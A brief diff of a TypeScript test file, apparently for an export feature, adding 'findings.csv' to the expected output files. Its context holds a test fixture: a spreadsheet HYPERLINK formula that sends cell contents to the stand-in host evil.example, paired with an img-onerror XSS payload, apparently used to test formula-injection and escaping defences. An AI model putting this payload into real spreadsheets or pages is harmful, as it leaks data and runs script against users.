@@ -9,7 +9,7 @@ import { admin, allRows, as, ask, house, jsonOf, requestOf, untilStatus } from '
 import { until } from '../support/until.ts'
 
 const TIMEZONE = 'Europe/Berlin'
-const FILES = ['inventory.csv', 'sessions.csv', 'review.json', 'report.html', 'manifest.json']
+const FILES = ['inventory.csv', 'sessions.csv', 'findings.csv', 'review.json', 'report.html', 'manifest.json']
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"<img src=x onerror=alert(1)>")'
 
 const $Manifest = z.object({
